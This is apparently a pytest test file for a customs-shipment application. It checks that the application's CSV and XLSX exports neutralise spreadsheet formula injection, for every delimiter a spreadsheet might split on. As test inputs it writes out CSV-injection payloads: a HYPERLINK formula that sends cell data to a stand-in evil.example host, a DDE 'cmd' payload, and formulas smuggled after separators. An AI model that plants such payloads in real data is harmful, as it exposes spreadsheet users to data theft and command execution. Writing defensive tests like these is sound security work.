"""Formula injection through the exports (issue #16 item 9): no segment of any exported
text becomes a formula, however a spreadsheet splits the file.

The hostile tester put ``;=HYPERLINK(…)`` inside an importer name: only the first character
of a field was checked, and Excel in a semicolon locale (most EU customs desks) splits a
CSV line at every ``;``, so the text after it became a cell of its own, and a formula.

What counts as dangerous is written here independently of the code under test (OWASP
"CSV Injection": a cell starting with = + - @ TAB or CR is a formula; a spreadsheet may
start a cell after , ; | TAB or a line break). Each file is parsed back the way a
spreadsheet might read it: with each of those delimiters, honouring quotes and not, and
the XLSX with openpyxl.
"""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest

from tests.apps.helpers import DEFAULTS_CSV, ingest_json

pytestmark = pytest.mark.services

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
DELIMITERS = (",", ";", "|", "\t")
SPLIT = re.compile(r"[,;|\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")

# Importer names of the hostile tester: a formula hidden after each kind of separator.
HOSTILE_IMPORTERS = [
    'Imp;=HYPERLINK("http://evil.example/?"&A1)',
    "Imp,+1+2",
    "Imp|@SUM(A1:A9)",
    "Imp\t-2+3",
    'Imp; "=1+1"',
    "=cmd|' /C calc'!A0",
]
CUSTOMS_HEADER = [
    "declaration_id",
    "line",
    "acceptance_date",
    "cn_code",
    "origin",
    "exporter",
    "importer",
    "net_mass_kg",
    "statistical_value_eur",
    "procedure",
    "installation_id",
]


def _customs(path, rows) -> object:
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(CUSTOMS_HEADER)
        writer.writerows(rows)
    return path


@pytest.fixture
def hostile_world(postgres, users, tmp_path):
    ingest_json("defaults", DEFAULTS_CSV)
    rows = [
        ["H1", n, "2026-03-02", "72081000", "CN", "Exporter A", name, "1000", "", "4000", ""]
        for n, name in enumerate(HOSTILE_IMPORTERS, start=1)
    ]
    # Rejected lines whose offending values carry formulas (the error report repeats them).
    rows.append(["H2", 1, "2026-03-02", "72081000", "CN;=1+1", "Exporter A", "I", "5", "", "", ""])
    rows.append(["H2", 2, "2026-03-02", "72081000", "CN|@A1", "Exporter A", "I", "5", "", "", ""])
    summary = ingest_json("customs", _customs(tmp_path / "hostile.csv", rows))
    assert summary["accepted"] == len(HOSTILE_IMPORTERS) and summary["rejected"] == 2, summary
    return users


def assert_no_formula_in_text(text: str, where: str) -> None:
    """No piece of ``text`` that a spreadsheet could make a cell starts like a formula
    (after the spaces and quotes a spreadsheet skips)."""
    for segment in [text, *SPLIT.split(text)]:
        lead = segment.lstrip(' "')
        if NUMBER.fullmatch(segment.strip(' "')):
            continue  # a number, even a negative one, is a number
        assert not lead.startswith(DANGEROUS), f"{where}: {segment!r} in {text!r}"


def assert_csv_safe(response, *, min_rows: int) -> list[list[str]]:
    """The CSV as sent: its media type, BOM and quoting, and every way of splitting it."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:10]  # UTF-8 byte-order mark
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) >= min_rows
    # Every field quoted: each physical line starts with a quote.
    assert all(line.startswith('"') for line in text.split("\r\n") if line), text[:300]
    for delimiter in DELIMITERS:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            options = {"delimiter": delimiter, "quoting": quoting}
            if quoting == csv.QUOTE_NONE:
                options["escapechar"] = None
            for row in csv.reader(io.StringIO(text, newline=""), **options):
                for cell in row:
                    assert_no_formula_in_text(cell, f"delimiter {delimiter!r}")
    return rows


def assert_xlsx_safe(content: bytes) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert_no_formula_in_text(cell.value, f"{sheet.title}!{cell.coordinate}")
            values.append([c.value for c in row])
    return values


def test_the_shipment_csv_neutralises_every_segment(hostile_world, client):
    client.force_login(hostile_world["official"])
    rows = assert_csv_safe(client.get("/shipments/?export=csv"), min_rows=7)
    header = rows[0]
    importers = {row[header.index("importer")] for row in rows[1:]}
    # The text is kept, with an apostrophe where a cell could begin with a formula.
    assert 'Imp;\'=HYPERLINK("http://evil.example/?"&A1)' in importers
    assert "Imp,'+1+2" in importers
    assert "Imp|'@SUM(A1:A9)" in importers
    assert "'=cmd|' /C calc'!A0" in importers


def test_the_shipment_xlsx_neutralises_every_segment(hostile_world, client):
    client.force_login(hostile_world["official"])
    response = client.get("/shipments/?export=xlsx")
    rows = assert_xlsx_safe(b"".join(response.streaming_content))
    header = rows[0]
    importers = {row[header.index("importer")] for row in rows[1:]}
    assert 'Imp;\'=HYPERLINK("http://evil.example/?"&A1)' in importers
    assert "Imp\t'-2+3" in importers


def test_the_error_report_neutralises_every_segment(hostile_world, client):
    from apps.evidence.models import IngestRun

    run = IngestRun.objects.get(source="customs")
    client.force_login(hostile_world["official"])
    rows = assert_csv_safe(client.get(f"/ingests/{run.pk}/errors.csv"), min_rows=3)
    values = {row[3] for row in rows[1:]}
    assert "CN;'=1+1" in values and "CN|'@A1" in values


def test_the_trace_exports_neutralise_every_segment(hostile_world, client):
    """A trace carries text from the evidence (names, quotes, reasons): stored here with
    formulas after each separator, it leaves as CSV and XLSX without one."""
    from apps.estimates.models import Estimate

    estimate = Estimate.objects.order_by("pk").first()
    trace = json.loads(estimate.trace)
    trace["note"] = "ok;=1+1,+2|@A1\t-3\n=4\r=5"
    estimate.trace = json.dumps(trace)
    # Estimates are immutable in the database (a trigger); a superuser's session can still
    # write one, as this test does to plant text that only evidence could carry.
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SET session_replication_role = replica")
    try:
        estimate.save(update_fields=["trace"])
    finally:
        with connection.cursor() as cursor:
            cursor.execute("SET session_replication_role = DEFAULT")
    client.force_login(hostile_world["auditor"])
    rows = assert_csv_safe(client.get(f"/api/v1/estimates/{estimate.pk}/trace.csv"), min_rows=5)
    note = next(row for row in rows if row[0] == "$.note")
    assert note[1] == "ok;'=1+1,'+2|'@A1\t'-3\n'=4\r'=5"
    book = client.get(f"/api/v1/estimates/{estimate.pk}/trace.xlsx")
    assert book.status_code == 200
    cells = assert_xlsx_safe(book.content)
    # (Without lxml, openpyxl writes CR as is, and XML 1.0 §2.11 reads it back as LF.)
    (got,) = [c for c in cells if c[0] == "$.note"]
    assert got[1].replace("\r", "\n") == note[1].replace("\r", "\n") and got[2] == "string"
